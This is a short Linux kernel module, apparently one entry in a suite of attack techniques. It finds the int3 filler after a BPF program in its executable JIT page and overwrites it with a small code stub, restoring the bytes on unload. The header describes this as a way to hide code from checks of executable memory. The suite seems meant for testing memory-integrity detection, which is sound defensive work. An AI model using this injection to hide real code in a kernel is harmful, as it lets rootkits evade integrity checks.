// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: code in memory that belongs to BPF, behind a program's end, where every page is executable anyway.
 * Who: no kit that is known; proposed for hiding from checks of executable memory.
 * Changes: filler in the page of a program (prog=ADDRESS), behind it if there is any. Undone when it is unloaded.
 */
#include "attack.h"

static unsigned long prog;
module_param(prog, ulong, 0);

static u8 *site, original[6];

static int __init start(void)
{
	static const u8 code[] = RETURNS(4711);
	int i;

	if (!prog)
		return -ENOENT;
	for (i = PAGE_SIZE - 16; i > 0; i -= 16) {
		site = (u8 *)(prog & PAGE_MASK) + i;
		if (site[0] == 0xcc && memcmp(site, site + 1, 15) == 0)
			break;
	}
	if (i <= 0)
		return -ESRCH;
	memcpy(original, site, sizeof(original));
	write_protected(site, code, sizeof(code));
	return 0;
}

static void __exit stop(void)
{
	write_protected(site, original, sizeof(original));
}

ATTACK(start, stop);
